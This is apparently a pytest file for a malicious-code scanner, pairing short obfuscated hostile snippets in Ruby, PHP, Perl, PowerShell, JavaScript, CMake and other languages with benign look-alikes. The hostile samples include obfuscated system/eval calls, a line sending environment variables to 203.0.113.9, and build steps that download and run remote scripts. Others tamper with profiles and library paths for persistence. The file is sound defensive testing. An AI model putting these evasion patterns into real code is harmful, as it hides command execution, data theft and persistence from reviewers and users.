"""Names and texts that are run and only come about when they are: in every language, each beside an ordinary neighbour."""

import pytest

from budmodel_scanner.verdict import Verdict
from tests.unit.budmodel_scanner.text_examination import costs_its_length, findings_of, verdict_of_text

# Name, what is hostile under it, what is ordinary.
PAIRS = [
    ("a.rb", "m = 'sys' + 'tem'\nmethod(m).call('id')", "m = 'str' + 'ip'\nmethod(m).call('id')"),
    ("b.rb", "m = ['sys', 'tem'].join\nKernel.send(m, 'id')", "m = ['to', 'str'].join('_')\nname.send(m, 'id')"),
    ("c.rb", "eval([105, 100].map(&:chr).join)", "puts [105, 100].map(&:chr).join"),
    (
        "d.rb",
        'ENV.each { |k, v| Net::HTTP.get(URI("http://203.0.113.9/?#{k}=#{v}")) }',
        'names.each { |k, v| Net::HTTP.get(URI("http://203.0.113.9/?#{k}=#{v}")) }',
    ),
    (
        "a.php",
        "<?php\n$p = ['s','y','s','t','e','m'];\n$g = implode('', $p);\n$g('id');",
        "<?php\n$p = ['s','u','m'];\n$g($p);",
    ),
    (
        "b.php",
        "<?php\nparse_str($_SERVER['QUERY_STRING']);\necho $f($a);",
        "<?php\nparse_str($_SERVER['QUERY_STRING'], $q);",
    ),
    ("c.php", "<?php\n$o->{$_REQUEST['m']}($_REQUEST['a']);", "<?php\n$o->set($_REQUEST['a']);"),
    ("d.php", "<?php\nforeach ($_POST as $k => $v) $$k = $v;", "<?php\nforeach ($_POST as $k => $v) $all[$k] = $v;"),
    ("e.php", "<?php include 'data://text/plain;base64,PD8=';", "<?php include 'data/names.php';"),
    (
        "a.pl",
        "my $c = join '', map { chr } (99, 117, 114);\nsystem($c);",
        "my $c = join '', map { lc } @names;\nsystem($c);",
    ),
    ("b.pl", "(my $c = 'phey -f uggc://203.0.113.9/g') =~ tr/a-z/n-za-m/;", "(my $c = 'names') =~ tr/a-z/A-Z/;"),
    ("c.pl", "my $f = 'CORE::' . join('', qw(s y s t e m));\n&$f('id');", "my $f = join('', qw(a b c d e f));\nprint $f;"),
    ("d.pl", "my $m = 'sys' . 'tem';\nmain->can($m)->('id');", "my $m = 'to' . '_s';\nmain->can($m)->('id');"),
    (
        "A.java",
        'Object r = Class.forName("java.lang.Run" + "time").getMethod("x").invoke(null);',
        'Object r = Class.forName("org.example." + "Names").getMethod("x").invoke(null);',
    ),
    (
        "B.java",
        "byte[] b = {0x69, 0x64};\nRuntime.getRuntime().exec(new String(b));",
        "byte[] b = {0x69, 0x64};\nString s = new String(b);",
    ),
    (
        "a.kt",
        'val c = listOf("java", "lang", "Runtime").joinToString(".")',
        'val c = listOf("java", "lang", "Names").joinToString(".")',
    ),
    (
        "a.cs",
        'var t = Type.GetType("System.Diagnostics.Pro" + "cess");',
        'var t = Type.GetType("System.Collections." + "List");',
    ),
    ("a.ps1", "& ('{1}{0}' -f 'X','IE') $c", "'{1}{0}' -f 'X','IN'"),
    ("b.ps1", "$k = $PSHOME[4] + $PSHOME[30] + 'x'\n. $k $x", "$k = $PSHOME + '\\Modules'\n. $k\\x.ps1"),
    ("c.ps1", "[ScriptBlock]::Create($t.Replace('~','')).Invoke()", "[ScriptBlock]::Create($t).Invoke()"),
    ("d.ps1", "I`E`X $c", "Get-Item `\n  names.txt"),
    ("e.ps1", "$n = [string]::new('txt.p/elpmaxe.x//:sptth'[-1..-23])", "$n = [string]::new('names'[-1..-5])"),
    (
        "f.ps1",
        "Add-Content -Path $PROFILE.AllUsersAllHosts -Value \". '$PSCommandPath'\"",
        "Add-Content -Path $PROFILE -Value 'Set-PSReadLineOption -EditMode Emacs'",
    ),
    ("a.jl", "c = String(UInt8[0x69, 0x64])\nrun(`sh -c $c`)", "c = String(read(f))\nrun(`make $c`)"),
    (
        "build.jl",
        'f = Downloads.download("https://x.invalid/a.jl")\nreturn Base.include(Main, f)',
        'f = Downloads.download("https://x.invalid/a.csv")\nreturn Base.include(Main, "a.jl")',
    ),
    (
        "a.lua",
        "local t = {}\nt[1] = string.char(105)\nio.popen(table.concat(t))",
        "local t = {}\nt[1] = 'ls'\nprint(table.concat(t))",
    ),
    ("b.lua", "local o = _G['o'..'s']\no['exe'..'cute']('id')", "local o = names['o'..'s']\no['get'..'Name']('id')"),
    ("c.lua", "package.cpath = '/tmp/.x/?.so;' .. package.cpath", "package.cpath = './?.so;' .. package.cpath"),
    (
        "a.awk",
        'BEGIN { c = sprintf("%c%c%c%c", 99, 117, 114, 108); system(c) }',
        'BEGIN { c = sprintf("%d%d", 99, 117); print c }',
    ),
    (
        "b.awk",
        'BEGIN { c = "cXuXrXl"; gsub(/X/, "", c); c |& getline y }',
        'BEGIN { c = "nXaXmXe"; gsub(/X/, "", c); print c }',
    ),
    (
        "a.tcl",
        "trace add variable x write {apply {{a b c} {exec sh -c [binary format H* [join {63 75 72 6c} {}]]}}}",
        "trace add variable x write {apply {{a b c} {puts [binary format H* [join {6e 61 6d 65} {}]]}}}",
    ),
    ("b.tcl", "set s [string map {Q u @ e} $t]\nuplevel #0 $s", "set s [string map {Q u @ e} $t]\nputs $s"),
    ("a.js", "require(['child', 'process'].join('_'))", "require(['read', 'names'].join('_'))"),
    ("b.js", "process['bin' + 'ding']('x')\nglobalThis['ev' + 'al'](x)", "element['set' + 'Name']('x')"),
    (
        "c.js",
        "(0, eval)([105, 100].map(c => String.fromCharCode(c)).join(''));",
        "show([105, 100].map(c => String.fromCharCode(c)).join(''));",
    ),
    ("a.R", "system(rawToChar(as.raw(c(0x69, 0x64))))", "print(rawToChar(as.raw(c(0x69, 0x64))))"),
    ("b.R", "f <- paste0('sys', 'tem')\nget(f)('id')", "f <- paste0('su', 'm')\nmatch.arg(f)"),
    ("d.js", "const n = 'child_'.concat('process');\nrequire(n)", "const n = 'read_'.concat('names');\nrequire(n)"),
    ("e.js", "let e = 'ev';\ne += 'al';\nglobalThis[e](x);", "let e = 'ev';\ne += 'ents';\nthis[e](x);"),
    ("f.js", "var _0x1a2b = [];" * 6, "var _0x1a2b = [];"),
    ("g.js", "o['s_y_s_t_e_m'.split('_').join('')]('id')", "o['a_b_c_d_e_f'.split('_').join('')]('id')"),
    ("f.php", "<?php\n$f = base64_decode('c3lzdGVt');\n$f('id');", "<?php\n$f = base64_decode('bmFtZXMh');\necho $f;"),
    ("g.php", '<?php\n$f = "\\x73\\x79stem";\n$f($a);', '<?php\n$f = "\\x73\\x79mbols";\n$f($a);'),
    ("g.ps1", "& (gcm *v*-e*pres*) $c", "& (gcm git) $c"),
    ("a.bat", "%x:~2,1%%x:~20,1%%x:~17,1%%x:~11,1% -s x", "echo %x:~2,1%"),
    (
        "CMakeLists.txt",
        'string(REPLACE "@" "ur" C "c@l -s https://x.invalid/a")\nexecute_process(COMMAND sh -c "${C}")',
        'string(REPLACE "@" "ur" C "nat@al")\nmessage("${C}")',
    ),
    (
        "b.cmake",
        'set(S "${D}/setup.sh")\nfile(DOWNLOAD "http://x.invalid/a" "${S}")\nexecute_process(COMMAND sh ${S})',
        'set(S "${D}/a.csv")\nfile(DOWNLOAD "http://x.invalid/a" "${S}")\nexecute_process(COMMAND git status)',
    ),
    (
        "build.rs",
        "fn name() -> String { K.iter().map(|b| (b ^ 0x21) as char).collect() }\nfn m() { Command::new(name()).spawn(); }",
        'fn name() -> String { K.iter().map(|b| (b ^ 0x21) as char).collect() }\nfn main() { Command::new("git").spawn(); }',
    ),
    ("a.rs", "const K: &[u8] = &[0x42, 0x54, 0x53, 0x4d];", "const K: &[u8] = &[0x42, 0x54, 0x53, 0x4e];"),
    (
        "a.go",
        "b := []byte{1, 2}\nfor i := range b { b[i] ^= 7 }\nexec.Command(string(b)).Run()",
        'b := []byte{1, 2}\nfor i := range b { b[i] ^= 7 }\nexec.Command("git").Run()',
    ),
    ("a.sed", "1{\ns/^/echo /\ns/$/ | sort/e\n}", "1{\ns/^/echo /\ns/$/ | sort/g\n}"),
    ("b.sed", "1e id", "1p\n:e\nte"),
    ("c.sed", "/token/w /root/.bashrc", "/token/w names.txt"),
    ("a.sh", "c='cXurl x'\nsh -c \"$(echo \"$c\" | sed 's/X//g')\"", "c='nXames'\nsh -c \"$(echo \"$c\" | sed 's/X//g')\""),
]


@pytest.mark.parametrize(("name", "text", "_"), PAIRS, ids=[name for name, _, _ in PAIRS])
def test_what_only_comes_about_when_it_runs_is_not_safe(name: str, text: str, _: str) -> None:
    assert verdict_of_text(name, text).rank >= Verdict.SUSPICIOUS.rank


@pytest.mark.parametrize(("name", "_", "text"), PAIRS, ids=[name for name, _, _ in PAIRS])
def test_its_ordinary_neighbour_is(name: str, _: str, text: str) -> None:
    assert findings_of(name, text) == []


@pytest.mark.parametrize(
    "text",
    [
        "if ($h = $lookup{$sig}) { &$h($self, $magic) }\n",
        "# A comment.\nThe module tries to load the package as a module.\n",
        '$CPAN::Frontend->warn("See http://x.invalid/");\n$CPAN::Frontend->print(" $system -- OK");\n$e->spawn($system);\n',
    ],
)
def test_modules_of_perl_itself_are_ordinary(text: str) -> None:
    assert findings_of("A.pm", 'my $sig = unpack("V", $magic);\nmy $r = get("http://x.invalid/");\n' + text) == []


@pytest.mark.cost
@pytest.mark.parametrize(
    "piece", ['"a" + ', "99, ", "63 ", '"a", ', "s/a/b/", "a b ", 'f("%s%s", "a", "b")\n', "x['a'+'b']("]
)
def test_long_texts_take_no_longer_than_their_length(piece: str) -> None:
    costs_its_length(lambda count: findings_of("a.js", piece * count), 150_000 // len(piece))
